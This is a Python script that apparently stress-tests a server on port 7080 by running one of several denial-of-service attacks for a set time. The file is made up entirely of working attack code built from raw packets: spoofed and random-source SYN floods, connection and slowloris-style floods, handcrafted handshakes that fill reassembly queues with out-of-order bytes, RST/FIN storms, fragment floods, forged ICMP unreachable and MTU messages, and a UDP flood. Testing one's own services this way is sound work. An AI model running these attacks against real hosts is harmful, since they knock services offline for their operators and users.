"""attack.py NAME SERVER OURS INTERFACE SERVER_MAC SECONDS: one attack from the client's side, bounded in what it opens and in time."""
import os, random, resource, select, socket, struct, sys, time

name, server, ours, interface, mac, seconds = sys.argv[1:]
end = time.monotonic() + float(seconds)
resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
random.seed(7)
GHOST = ours.rsplit(".", 1)[0] + ".200"  # an address on the wire that nobody answers for


def total(data):
    data += b"\0" * (len(data) % 2)
    value = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while value >> 16:
        value = (value & 0xFFFF) + (value >> 16)
    return ~value & 0xFFFF


def packet(source, protocol, body, fragment=0):
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(body), random.randrange(65536), fragment, 64, protocol, 0,
                       socket.inet_aton(source), socket.inet_aton(server))
    head = head[:10] + struct.pack("!H", total(head)) + head[12:]
    return bytes.fromhex(mac.replace(":", "")) + b"\x02\0\0\0\0\x09" + b"\x08\0" + head + body


def tcp(source, port, to, sequence, ack, flags, data=b"", window=1000):
    body = struct.pack("!HHIIBBHHH", port, to, sequence % 2**32, ack % 2**32, 0x50, flags, window, 0, 0) + data
    pseudo = socket.inet_aton(source) + socket.inet_aton(server) + struct.pack("!BBH", 0, 6, len(body))
    return packet(source, 6, body[:16] + struct.pack("!H", total(pseudo + body)) + body[18:])


def word(): return random.randrange(2**32)
def port(): return random.randrange(1024, 65536)


def wire():
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800))
    raw.bind((interface, 0))
    return raw


def flood(make, kinds=10_000):
    """Frames as fast as one Python loop sends them."""
    raw, frames, count = wire(), [make() for _ in range(kinds)], 0
    while time.monotonic() < end:
        for frame in frames[count % kinds:count % kinds + 200]:
            try:
                raw.send(frame)
            except OSError:
                pass
        count += 200
    return f"{count} frames"


def connections(count, first=b"", receive_buffer=None):
    held = []
    for _ in range(count):
        connection = socket.socket()
        connection.settimeout(2)
        if receive_buffer:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        try:
            connection.connect((server, 7080))
            connection.sendall(first)
            held.append(connection)
        except OSError:
            pass
        if time.monotonic() > end:
            break
    return held


def rest():
    time.sleep(max(0, end - time.monotonic()))


def hold(*what):
    held = connections(*what)
    rest()
    return f"{len(held)} connections"


def slow_requests():
    held, sent = connections(1000, b"GET /"), 0
    while held and time.monotonic() < end:
        for connection in held:
            try:
                sent += connection.send(b"x")
            except OSError:
                pass
        time.sleep(0.5)
    return f"{len(held)} connections, {sent} bytes"


def holes():
    """Connections of nobody's: handshakes made by hand, then one byte at every other place of the window."""
    raw, opened = wire(), {}
    for at in range(200):
        raw.send(tcp(GHOST, 2000 + at, 7080, 1000, 0, 2))
    until = time.monotonic() + 2
    while time.monotonic() < until and len(opened) < 200:
        if not select.select([raw], [], [], 0.1)[0]:
            continue
        frame = raw.recv(2000)
        if frame[23:24] == b"\x06" and frame[30:34] == socket.inet_aton(GHOST) and frame[47] & 0x12 == 0x12:
            to = struct.unpack("!H", frame[36:38])[0]
            opened[to] = struct.unpack("!I", frame[38:42])[0]
    for to, theirs in opened.items():
        raw.send(tcp(GHOST, to, 7080, 1001, theirs + 1, 0x10))
    count = 0
    for place in range(2, 60_000, 2):
        for to, theirs in opened.items():
            try:
                raw.send(tcp(GHOST, to, 7080, 1001 + place, theirs + 1, 0x18, b"h"))
            except OSError:
                pass
            count += 1
        if time.monotonic() > end:
            break
    return f"{len(opened)} connections, {count} holes"


def lie():
    """ICMP: unreachable, or a small MTU, for a segment of some connection of the server's."""
    quoted = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 60, 1, 0, 64, 6, 0, socket.inet_aton(server), socket.inet_aton(ours))
    quoted += struct.pack("!HHI", 7080, port(), word())
    body = struct.pack("!BBHHH", 3, random.choice([0, 1, 2, 3, 4, 13]), 0, 0, random.choice([0, 68, 552, 1400])) + quoted
    return packet(ours, 1, body[:2] + struct.pack("!H", total(body)) + body[4:])


def udp():
    body = struct.pack("!HHHH", port(), 7081, 72, 0) + b"u" * 64
    return packet(ours, 17, body)


ATTACKS = {
    "none": lambda: rest() or "",
    "syn flood": lambda: flood(lambda: tcp(GHOST, port(), 7080, word(), 0, 2)),
    "forged syn flood": lambda: flood(lambda: tcp(socket.inet_ntoa(struct.pack("!I", 0x0B000000 + random.randrange(2**24))), port(), 7080,
                                                  word(), 0, 2)),
    "connection flood": lambda: hold(3000),
    "slow readers": lambda: hold(500, b"GET /large HTTP/1.0\r\n\r\n", 2048),
    "slow requests": slow_requests,
    "holes": holes,
    "rst and fin storm": lambda: flood(lambda: tcp(ours, port(), 7080, word(), word(), random.choice([4, 0x14, 0x11]))),
    "fragments": lambda: flood(lambda: packet(GHOST, 6, os.urandom(1440), 0x2000 | random.choice([0, 185])), 2000),
    "icmp lies": lambda: flood(lie),
    "udp flood": lambda: flood(udp),
}
print(ATTACKS[name](), flush=True)
